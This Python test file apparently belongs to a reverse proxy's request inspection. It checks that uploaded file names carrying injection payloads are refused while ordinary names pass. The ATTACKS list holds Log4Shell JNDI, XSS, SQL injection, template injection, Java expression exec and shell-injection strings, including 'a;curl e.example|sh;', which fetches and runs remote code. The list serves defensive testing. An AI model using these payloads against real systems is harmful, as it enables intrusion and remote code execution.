"""Names of uploaded files, through the shipped signatures: a name is printed, looked up and given to programs like
any other value."""

from __future__ import annotations

import pytest

from revproxy.detection.link import link
from revproxy.detection.sigyaml import load_all, lower
from revproxy.inspection import Inspection, Policy, RuleInspector
from revproxy.inspection.sources import read_signature_files, shipped_signatures
from revproxy.model import Limits
from revproxy.proxy.http.offline import inspect_request


@pytest.fixture(scope="module")
def inspection(compiled):
    signatures = load_all(read_signature_files([shipped_signatures()]))
    linked = link([lower(s) for s in signatures], compiled)
    return Inspection([RuleInspector(linked, 1 << 20)], "x", 5.0, wanted=linked.fields)


async def refused(inspection, name):
    """The rules that refused an upload of an image with this name; none when it goes on."""
    disposition = b'Content-Disposition: form-data; name="photo"; filename="' + name.encode() + b'"'
    body = b"--bb\r\n" + disposition + b"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--bb--\r\n"
    kind = b"Content-Type: multipart/form-data; boundary=bb"
    head = [b"POST / HTTP/1.1", b"Host: h", kind, b"Content-Length: %d" % len(body)]
    got = await inspect_request(b"\r\n".join([*head, b"", body]), inspection, Policy(), Limits())
    return {finding.rule for finding in got.findings} if got.verdict.action.name != "ALLOW" else set()


ATTACKS = [
    "${jndi:ldap://e.example/a}.png",
    "<img src=x onerror=alert(1)>.png",
    "x' union select 1,password from users-- .png",
    "a;curl e.example|sh;.png",
    "$(id).png",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}.png",
    "${T(java.lang.Runtime).getRuntime().exec(1)}.png",
]


@pytest.mark.parametrize("name", ATTACKS)
async def test_an_attack_in_the_name_of_a_file_is_refused(inspection, name):
    assert await refused(inspection, name)


ORDINARY = [
    "O'Brien's report (1).pdf",
    "Q&A; notes.docx",
    "C:\\fakepath\\x.jpg",
    "résumé – v2 [final] #3.pdf",
    "R&D $budget (draft).xlsx",
    "Cut & paste; more.pdf",
    "{{title}} [Draft] A|B test.pdf",
    "~$budget -- final --.docx",
    "Select from union - minutes.pdf",
]


@pytest.mark.parametrize("name", ORDINARY)
async def test_an_ordinary_name_goes_on(inspection, name):
    assert await refused(inspection, name) == set()
